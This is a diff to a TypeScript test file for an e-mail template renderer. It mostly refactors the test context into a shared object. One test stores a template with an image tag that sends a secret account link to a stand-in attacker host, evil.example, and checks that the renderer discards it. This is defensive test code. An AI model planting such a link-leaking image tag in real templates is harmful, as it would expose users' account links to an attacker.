@@ -2,9 +2,8 @@ import { monitorEventLoopDelay } from 'node:perf_hooks'
 import { afterAll, expect, test } from 'vitest'
 import { aPerson } from '../../../../../tests/kit/builders.ts'
 import { createTestDatabase } from '../../../../../tests/kit/database.ts'
-import { TEST_SECRETS, TEST_SITE } from '../../../../../tests/kit/mail.ts'
+import { TEST_RENDERING, TEST_SECRETS, TEST_SITE } from '../../../../../tests/kit/mail.ts'
 import { inTransaction } from '../../../../platform/db/database.ts'
-import { createLog } from '../../../../platform/log.ts'
 import { queueEmail } from '../../commands/queue-email.ts'
 import { renderMessage } from '../../reads/render-message.ts'
 import { emailTemplates, outbox } from '../../tables.ts'
@@ -72,7 +71,7 @@ test('Excess custom template previews get 503, without delaying e-mails being se
   const tried = Array.from({ length: 12 }, () =>
     tryRenderingTemplate(filling({ html: endless })).catch((error) => error),
   )
-  const context = { db, log: createLog('silent'), secrets: TEST_SECRETS, site: TEST_SITE }
+  const context = { db, ...TEST_RENDERING }
   const startedAt = performance.now()
   const { subject, html } = await renderMessage(context, message)
   expect([subject, html]).toEqual(['Yours', `<a href="${TEST_SITE.appUrl}/account-link#abc">Open</a>`])
@@ -85,7 +84,7 @@ test('A stored template that leaks a secret link is replaced by the shipped temp
   await db.update(emailTemplates).set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' })
   const [message] = await db.select().from(outbox)
   if (message === undefined) throw new Error('nothing announced')
-  const context = { db, log: createLog('silent'), secrets: TEST_SECRETS, site: TEST_SITE }
+  const context = { db, ...TEST_RENDERING }
   const { subject, html } = await renderMessage(context, message)
   expect(subject).toBe('Please confirm your e-mail address')
   expect(html).not.toContain('evil.example')
